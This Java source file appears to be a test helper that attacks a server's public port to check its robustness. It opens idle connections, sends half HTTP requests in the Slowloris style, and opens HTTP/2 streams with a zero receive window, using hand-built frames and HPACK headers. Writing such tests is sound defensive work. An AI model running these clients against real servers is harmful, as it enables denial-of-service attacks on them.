package io.kubeassume.server;

import java.io.ByteArrayOutputStream;
import java.io.Closeable;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;

/**
 * Clients that attack the public port the way the robustness issue did, written against raw sockets
 * so that they misbehave exactly as asked: connect and send nothing, send half a request, or open
 * HTTP/2 streams with a zero receive window and never read. Each attack keeps its sockets until closed.
 */
final class HostileClients implements Closeable {
  static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1);
  private static final int SETTINGS = 0x4;
  private static final int HEADERS = 0x1;
  private static final int SETTINGS_INITIAL_WINDOW_SIZE = 0x4;

  private final String host;
  private final int port;
  private final SSLContext tls;
  /** Open connections: plain ones as non-blocking channels (cheap to check), TLS ones as sockets. */
  private final List<Object> sockets = new ArrayList<>();

  /** @param tls null for plain TCP, else the context to handshake with (ALPN h2 is asked for) */
  HostileClients(String host, int port, SSLContext tls) {
    this.host = host;
    this.port = port;
    this.tls = tls;
  }

  /** Opens {@code n} TCP connections and sends nothing (not even a TLS ClientHello); returns how many opened. */
  int idle(int n) {
    int opened = 0;
    for (int i = 0; i < n; i++) {
      try {
        SocketChannel channel = SocketChannel.open(new InetSocketAddress(host, port));
        channel.configureBlocking(false);
        sockets.add(channel);
        opened++;
      } catch (IOException e) {
        // the backlog is full or the server refused: the attack goes on with what it has
      }
    }
    return opened;
  }

  /** Opens {@code n} connections (TLS handshaken if this is a TLS attacker) that send half a request and stop. */
  int halfRequests(int n) {
    int opened = 0;
    for (int i = 0; i < n; i++) {
      byte[] half = "GET /openid/v1/jwks HTTP/1.1\r\nHost: x\r\n".getBytes(StandardCharsets.ISO_8859_1);
      try {
        if (tls == null) {
          SocketChannel channel = SocketChannel.open(new InetSocketAddress(host, port));
          channel.write(ByteBuffer.wrap(half));
          channel.configureBlocking(false);
          sockets.add(channel);
        } else {
          Socket s = connect("http/1.1");
          s.getOutputStream().write(half);
          s.getOutputStream().flush();
        }
        opened++;
      } catch (IOException e) {
        // as above
      }
    }
    return opened;
  }

  /**
   * Opens {@code connections} HTTP/2 connections (over TLS with ALPN, or h2c with prior knowledge on a
   * plain port), each advertising a zero stream window and asking for {@code path} on {@code streams}
   * streams, then never reading again: every response stays stuck in the server.
   *
   * @return the number of connections on which the server accepted the HTTP/2 preface
   */
  int stalledStreams(int connections, int streams, String path) {
    int opened = 0;
    for (int i = 0; i < connections; i++) {
      try {
        Socket s = connect("h2");
        OutputStream out = s.getOutputStream();
        out.write(PREFACE);
        out.write(frame(SETTINGS, 0, 0, settings(SETTINGS_INITIAL_WINDOW_SIZE, 0)));
        out.flush();
        if (!serverSettingsArrive(s)) {
          continue;
        }
        out.write(frame(SETTINGS, 0x1, 0, new byte[0]));
        for (int k = 0; k < streams; k++) {
          out.write(frame(HEADERS, 0x5, 1 + 2 * k, requestHeaders(path)));
        }
        out.flush();
        opened++;
      } catch (IOException e) {
        // as above
      }
    }
    return opened;
  }

  /** How many of this attacker's connections the server has closed. */
  int closedByServer() {
    int closed = 0;
    for (Object s : sockets) {
      if (closedByPeer(s)) {
        closed++;
      }
    }
    return closed;
  }

  /** Forgets (and closes) the connections the server has closed; returns how many. */
  int pruneClosed() {
    int before = sockets.size();
    sockets.removeIf(s -> {
      if (closedByPeer(s)) {
        closeQuietly(s);
        return true;
      }
      return false;
    });
    return before - sockets.size();
  }

  int size() {
    return sockets.size();
  }

  @Override
  public void close() {
    sockets.forEach(HostileClients::closeQuietly);
    sockets.clear();
  }

  private static void closeQuietly(Object s) {
    try {
      ((Closeable) s).close();
    } catch (IOException ignored) {
      // closing anyway
    }
  }

  private Socket connect(String alpn) throws IOException {
    Socket plain = new Socket();
    plain.connect(new InetSocketAddress(host, port), 5000);
    Socket s = plain;
    if (tls != null) {
      SSLSocket ssl = (SSLSocket) tls.getSocketFactory().createSocket(plain, host, port, true);
      SSLParameters params = ssl.getSSLParameters();
      params.setApplicationProtocols(new String[] {alpn});
      ssl.setSSLParameters(params);
      ssl.setSoTimeout(5000);
      ssl.startHandshake();
      s = ssl;
    }
    sockets.add(s);
    return s;
  }

  /** Reads frames until the server's SETTINGS; false if it answered something else (no HTTP/2 spoken). */
  private static boolean serverSettingsArrive(Socket s) throws IOException {
    s.setSoTimeout(5000);
    DataInputStream in = new DataInputStream(s.getInputStream());
    byte[] head = new byte[9];
    in.readFully(head);
    if (head[0] == 'H') {
      return false; // "HTTP/1.1 400 ..." : the port speaks HTTP/1 only
    }
    int length = ((head[0] & 0xff) << 16) | ((head[1] & 0xff) << 8) | (head[2] & 0xff);
    in.readFully(new byte[length]);
    return head[3] == SETTINGS;
  }

  /** Whether the peer has closed {@code s}: a read returns end of stream or fails, rather than finding nothing. */
  static boolean closedByPeer(Object s) {
    return s instanceof SocketChannel channel ? closedByPeer(channel) : closedByPeer((Socket) s);
  }

  private static boolean closedByPeer(SocketChannel channel) {
    ByteBuffer buf = ByteBuffer.allocate(8192);
    try {
      while (true) {
        buf.clear();
        int n = channel.read(buf);
        if (n < 0) {
          return true;
        }
        if (n == 0) {
          return false;
        }
      }
    } catch (IOException e) {
      return true;
    }
  }

  private static boolean closedByPeer(Socket s) {
    try {
      s.setSoTimeout(5);
      InputStream in = s.getInputStream();
      byte[] buf = new byte[8192];
      while (true) {
        int n = in.read(buf);
        if (n < 0) {
          return true;
        }
      }
    } catch (SocketTimeoutException e) {
      return false;
    } catch (IOException e) {
      return true;
    }
  }

  static byte[] frame(int type, int flags, int stream, byte[] payload) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(payload.length >>> 16);
    out.write(payload.length >>> 8);
    out.write(payload.length);
    out.write(type);
    out.write(flags);
    out.write(stream >>> 24);
    out.write(stream >>> 16);
    out.write(stream >>> 8);
    out.write(stream);
    out.writeBytes(payload);
    return out.toByteArray();
  }

  private static byte[] settings(int id, int value) {
    return new byte[] {(byte) (id >>> 8), (byte) id, (byte) (value >>> 24), (byte) (value >>> 16), (byte) (value >>> 8),
        (byte) value};
  }

  /** HPACK: :method GET and :scheme from the static table, :path and :authority as literals (never indexed). */
  private byte[] requestHeaders(String path) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(0x82); // :method GET
    out.write(tls != null ? 0x87 : 0x86); // :scheme https / http
    literal(out, 4, path); // :path
    literal(out, 1, host); // :authority
    return out.toByteArray();
  }

  private static void literal(ByteArrayOutputStream out, int nameIndex, String value) {
    byte[] bytes = value.getBytes(StandardCharsets.ISO_8859_1);
    if (bytes.length >= 127) {
      throw new IllegalArgumentException("header value too long for this encoder");
    }
    out.write(0x10 | nameIndex);
    out.write(bytes.length);
    out.writeBytes(bytes);
  }
}
